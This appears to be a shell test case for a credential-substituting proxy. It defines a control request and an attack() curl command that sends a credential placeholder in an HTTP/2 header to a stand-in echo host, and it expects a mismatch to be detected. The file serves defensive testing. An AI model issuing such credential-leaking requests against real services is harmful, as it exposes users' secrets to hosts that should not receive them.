# SPDX-License-Identifier: Apache-2.0
# D14: the placeholder over HTTP/2, in a field that HPACK says shall not be kept.
# shellcheck shell=sh disable=SC2034,SC2154
POLICY=cred
CRED=yes
EXPECT='credential_endpoint_mismatch|placeholder'
EVENT='http PLACEHOLDER|CREDENTIAL'
control() { curl -sS -m 20 --fail --cacert "$CA" --connect-to "::127.0.0.1:$TLS4" -H "x-note: $KEY" https://git.example/echo; }
attack() { curl -sS -m 20 --fail-with-body --http2 -H "x-note: $ACME_KEY" https://git.example/echo; }
